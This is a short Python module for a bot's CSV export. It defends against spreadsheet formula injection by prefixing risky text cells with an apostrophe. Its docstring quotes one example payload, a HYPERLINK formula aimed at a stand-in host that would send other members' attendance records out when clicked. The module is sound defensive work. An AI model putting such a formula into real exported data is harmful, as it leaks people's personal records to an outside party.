"""The one way the bot writes a CSV file: every cell a spreadsheet could run is written as text.

A cell that starts with `=`, `+`, `-`, `@`, a tab or a carriage return is a formula to Excel,
LibreOffice and Google Sheets. Names come from members (a nickname such as
`=HYPERLINK("//x/"&A3,"a")`), and a leader who opens the group's attendance in a spreadsheet
would run it: one click sends other trainees' records away. As OWASP's CSV-injection guidance
says, such a cell gets a leading apostrophe, which spreadsheets show as text and do not keep.
Numbers (int, float) are left as numbers: `-1` is a value, not a formula, and only text comes
from people.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable, Sequence

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n")


def text_cell(value: object) -> object:
    """A cell as a spreadsheet will show it, never as a formula."""
    if not isinstance(value, str):
        return value
    if value.startswith(FORMULA_STARTS) or value.lstrip(" ").startswith(FORMULA_STARTS):
        return "'" + value
    return value


def csv_bytes(rows: Iterable[Sequence[object]]) -> bytes:
    """UTF-8 with a byte-order mark, so spreadsheet programs read names and dashes correctly."""
    out = io.StringIO()
    writer = csv.writer(out)
    for row in rows:
        writer.writerow([text_cell(value) for value in row])
    return ("\ufeff" + out.getvalue()).encode("utf-8")
